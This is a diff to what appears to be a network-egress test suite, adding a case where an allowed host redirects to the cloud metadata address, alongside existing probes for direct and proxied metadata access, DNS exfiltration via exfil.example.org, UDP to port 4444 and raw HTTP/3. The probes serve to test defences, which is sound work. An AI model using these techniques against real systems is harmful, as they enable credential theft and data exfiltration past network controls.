@@ -100,6 +100,7 @@ def attempts():
     yield "a model past the gate", lambda: fetch(TARGETS["model"], data=b'{"model":"gpt-5","messages":[]}', headers={"Content-Type": "application/json"}, proxied=False)
     yield "metadata", lambda: fetch("http://169.254.169.254/latest/meta-data/", proxied=False)
     yield "metadata by the proxy", lambda: fetch("http://169.254.169.254/latest/meta-data/")
+    yield "metadata by a redirect of an allowed host", lambda: fetch(f"https://{allowed}/public/to-metadata")
     yield "a name in a DNS query", lambda: check_dns(udp("8.8.8.8", 53, dns_query("c3RvbGVu.exfil.example.org")))
     yield "UDP to another port", lambda: udp("8.8.8.8", 4444, b"stolen")
     yield "HTTP/3", lambda: udp("93.184.216.34", 443, b"\xc0\0\0\0\1" + b"\0" * 1200)
